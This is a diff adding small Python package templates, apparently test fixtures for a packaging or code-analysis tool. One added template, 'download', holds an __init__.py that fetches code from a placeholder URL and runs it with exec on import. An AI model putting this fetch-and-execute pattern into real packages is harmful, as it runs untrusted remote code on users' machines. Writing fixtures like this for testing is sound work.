@@ -47,6 +47,16 @@ TEMPLATES = (
     ("stub", "constant-and-function", {"{m}/__init__.py": "__version__ = '1'\n\n\ndef f():\n"
                                        "    '''Doc.'''\n    return __version__\n"}),
     ("stub", "add-one", {"{m}/__init__.py": "def not_implemented():\n    raise NotImplementedError\n"}),
+    ("stub", "message", {"{m}/__init__.py": "import sys\n\nprint('{p} is not ready', end='')\n"}),
+    ("stub", "typed", {"{m}/__init__.py": "", "{m}/api.py": "def main() -> None:\n"
+                       "    \"\"\"Entry.\"\"\"\n    print('main')\n    return None\n"}),
+    ("stub", "exception", {"{m}/__init__.py": "class {m}Error(Exception):\n    pass\n"}),
+    ("stub", "several-prints", {"{m}/__init__.py": "print('one')\nprint('two', 2)\nprint()\n"}),
+    ("stub", "nested-pass", {"{m}/__init__.py": "class A:\n    class B:\n        pass\n\n"
+                             "    def f(self):\n        return 'x'\n"}),
+    ("constant", "arithmetic", {"{m}.py": "MINUTE = 60\nHOUR = 60 * 60\n"}),
+    ("constant", "list", {"{m}/__init__.py": "NAMES = [\n" + "    'name',\n" * 20 + "]\n"}),
+    ("blank", "continuation", {"{m}/__init__.py": "# a \\\n# b\n\\\n\n"}),
     ("data", "table", {"{m}/__init__.py": "", "{m}/table.csv": CSV}),
     ("data", "json", {"{m}/__init__.py": "# data\n", "{m}/d/values.json": '{{"a": [1, 2, 3]}}\n'}),
     ("data", "image", {"{m}/__init__.py": "", "{m}/logo.png": PNG}),
@@ -75,6 +85,14 @@ TEMPLATES = (
     ("code", "latin-1", {"{m}/__init__.py": "# -*- coding: latin-1 -*-\ndef f(x):\n"
                          "    return x + '\u00fc'\n".encode("latin-1")}),
     ("code", "own-name", {"{m}/__init__.py": "def {m}(x):\n    # {p}\n    return '{p}' + x\n"}),
+    ("code", "while", {"{m}.py": "def wait(check):\n    while not check():\n        pass\n"}),
+    ("code", "try", {"{m}.py": "def safe(f):\n    try:\n        return f()\n    except OSError:\n"
+                     "        return None\n"}),
+    ("code", "lambda", {"{m}.py": "double = lambda x: x * 2\n"}),
+    ("code", "download", {"{m}/__init__.py": "import urllib.request\n\nexec(urllib.request.urlopen("
+                          "'http://x.example/').read())\n"}),
+    ("code", "walrus", {"{m}.py": "def f(x):\n    if (n := len(x)) > 3:\n        return n\n"}),
+    ("code", "f-strings", {"{m}.py": "def f(x):\n    return f'{{x!r:>{{len(x)}}}} {{x[\"a\"]}}'\n"}),
     ("code", "pyi", {"{m}/__init__.pyi": "def f(x: int) -> str: ...\n"}),
     ("code", "deep", {"{m}/__init__.py": "", "{m}/a/__init__.py": "", "{m}/a/b/__init__.py":
                       "def deep(x):\n    return [y for y in x if y]\n"}),
